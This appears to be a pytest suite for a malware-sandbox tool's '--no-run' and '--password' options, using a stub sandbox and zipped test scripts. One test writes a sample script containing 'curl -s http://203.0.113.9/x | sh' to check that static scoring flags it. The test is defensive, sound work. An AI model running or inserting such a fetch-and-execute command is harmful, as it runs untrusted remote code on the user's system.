"""`lazaretto analyze --no-run` and `--password`: looked at without a machine, opened with the user's own words."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from lazaretto.analysis.behaviours import Catalogue
from lazaretto.analysis.report import read_report
from lazaretto.cli import analyze
from lazaretto.cli.errors import Exit
from lazaretto.cli.main import run
from lazaretto.domain import trace as t
from lazaretto.domain.detonation import Detonation, DetonationRequest, Guest
from lazaretto.domain.progress import Listener, nobody
from lazaretto.testing.archives import aes_zipped, zipped

SCRIPT = b"#!/bin/sh\necho hello\n"
WORD = "rather-private-word"


class Played:
    """A sandbox in which every file ends in order; it counts how often it was opened and what it ran."""

    def __init__(self) -> None:
        self.opened = 0
        self.ran: list[str] = []

    def __call__(self, request: DetonationRequest, progress: Listener = nobody) -> Detonation:
        self.ran.append(request.name)
        sample = t.Process(key=1, pid=7, image="/usr/bin/sh", cause=t.Cause.SAMPLE, exited=9)
        trace = t.Trace(profile="linux", ending=t.Ending.EXITED, processes={1: sample})
        (request.out / "trace.jsonl").write_bytes(b"".join(line + b"\n" for line in t.trace_to_lines(trace)))
        return Detonation(trace=trace, guest=Guest(profile="linux", image="0"), engine_version="1")


@pytest.fixture
def played(monkeypatch: pytest.MonkeyPatch) -> Played:
    monkeypatch.setattr("lazaretto.analysis.behaviours.load", lambda _folder: Catalogue((), {}, "0"))
    sandbox = Played()

    @contextmanager
    def opened(_files: int, _first: str | None) -> Iterator[Played]:
        sandbox.opened += 1
        yield sandbox

    monkeypatch.setattr(analyze, "open_sandbox", opened)
    return sandbox


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    place = tmp_path / "files"
    place.mkdir()
    (place / "a.sh").write_bytes(SCRIPT)
    (place / "b.zip").write_bytes(zipped({"one.sh": SCRIPT + b"# 1\n", "two.sh": SCRIPT + b"# 2\n", "note": b"x"}))
    return place


def results(capsys: pytest.CaptureFixture[str]) -> dict[str, dict[str, Any]]:
    told = map(json.loads, capsys.readouterr().out.splitlines())
    return {Path(one["file"]).name: one for one in told}


def test_one_file_is_only_looked_at(
    played: Played, folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    kept = tmp_path / "out"
    assert run(["analyze", "--no-run", "--json", "--quiet", "--report", str(kept), str(folder / "a.sh")]) == Exit.DONE
    result = results(capsys)["a.sh"]
    assert (result["state"], result["status"], result["score"]) == ("finished", "unknown", None)
    assert result["reason"] == "The file was not run, as was asked."
    assert played.opened == 0
    report = read_report(kept / result["sha256"])
    assert report.run_asked is False
    assert report.not_done == ("the file was not run, as was asked",)
    assert run(["explain", str(kept / result["sha256"])]) == Exit.DONE
    assert "as was asked" in capsys.readouterr().out
    assert run(["rescore", "--write", str(kept)]) == Exit.DONE
    assert read_report(kept / result["sha256"]).run_asked is False


def test_what_is_bad_to_look_at_stays_bad(played: Played, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    script = tmp_path / "x.sh"
    script.write_bytes(b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n")
    assert run(["analyze", "--no-run", "--json", "--quiet", str(script)]) == Exit.DONE
    result = results(capsys)["x.sh"]
    assert result["score"] >= 75
    assert "was not run, as was asked" in result["reason"]


def test_files_inside_say_that_they_were_not_run(
    played: Played, folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    kept = tmp_path / "out"
    assert run(["analyze", "--no-run", "--json", "--quiet", "--report", str(kept), str(folder)]) == Exit.DONE
    told = results(capsys)
    assert {one["status"] for one in told.values()} == {"unknown"}
    assert "2 files inside that can be run were not, as was asked" in told["b.zip"]["reason"]
    inside = {one.path: one for one in read_report(kept / told["b.zip"]["sha256"]).inside}
    assert inside["one.sh",].status == inside["two.sh",].status == "unknown"
    assert "as was asked" in inside["one.sh",].reason
    assert inside["note",].status == "clean"
    assert played.opened == 0


def test_a_look_is_not_taken_for_a_run(
    played: Played, folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    call = ["analyze", "--json", "--quiet", "--jobs", "1", "--report", str(tmp_path / "out"), str(folder)]
    assert run([*call, "--no-run"]) == Exit.DONE
    assert run([*call, "--no-run"]) == Exit.DONE  # nothing new to do
    assert played.ran == []
    capsys.readouterr()
    assert run(call) == Exit.DONE
    assert sorted(played.ran) == ["a.sh", "one.sh", "two.sh"]
    full = results(capsys)
    assert full["a.sh"]["status"] == "clean"
    assert run(call) == Exit.DONE
    assert run([*call, "--no-run"]) == Exit.DONE  # more than was asked
    assert len(played.ran) == 3
    assert results(capsys)["a.sh"]["status"] == "clean"


def test_a_single_look_over_a_full_report_is_found_out(played: Played, folder: Path, tmp_path: Path) -> None:
    kept = str(tmp_path / "out")
    whole = ["analyze", "--quiet", "--report", kept, str(folder)]
    assert run(whole) == Exit.DONE
    before = len(played.ran)
    assert run(["analyze", "--quiet", "--no-run", "--report", kept, str(folder / "a.sh")]) == Exit.DONE
    assert run(whole) == Exit.DONE
    assert played.ran[before:] == ["a.sh"]


def test_own_words_open_what_is_locked(played: Played, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    locked, kept = tmp_path / "pay.zip", tmp_path / "out"
    locked.write_bytes(aes_zipped({"pay.txt": b"42"}, WORD))
    call = ["analyze", "--no-run", "--json", "-vv", "--report", str(kept), str(locked)]
    assert run(call) == Exit.DONE
    shut = results(capsys)["pay.zip"]
    assert read_report(kept / shut["sha256"]).stays_locked
    assert run([*call[:-1], "--password", "something else", "--password", WORD, str(locked)]) == Exit.DONE
    out, err = capsys.readouterr()
    assert WORD not in err
    assert json.loads(out)["evidence"] == []  # it is no word that everybody knows
    report = read_report(kept / shut["sha256"])
    assert not report.stays_locked
    assert [(one.path, one.password) for one in report.inside] == [(("pay.txt",), WORD)]


def test_a_folder_is_opened_with_words_that_come_later(
    played: Played, folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (folder / "pay.zip").write_bytes(aes_zipped({"pay.sh": SCRIPT + b"# 3\n"}, WORD))
    call = ["analyze", "--json", "-vv", "--jobs", "1", "--report", str(tmp_path / "out"), str(folder)]
    assert run(call) == Exit.DONE
    before = len(played.ran)
    capsys.readouterr()
    assert run([*call, "--password", WORD]) == Exit.DONE
    out, err = capsys.readouterr()
    assert WORD not in out + err
    assert played.ran[before:] == ["pay.sh"]  # the others had nothing locked
    assert run([*call, "--password", WORD]) == Exit.DONE
    assert len(played.ran) == before + 1
    assert WORD.encode() not in (tmp_path / "out" / "files.jsonl").read_bytes()


def test_an_empty_word_is_a_mistake(played: Played, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["analyze", "--password", "", str(folder / "a.sh")]) == Exit.USAGE
    assert "--password is empty" in capsys.readouterr().err


def test_help_names_both(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["analyze", "--help"]) == Exit.DONE
    out = capsys.readouterr().out
    assert "--no-run" in out
    assert "--password" in out
    assert "--no-no-run" not in out
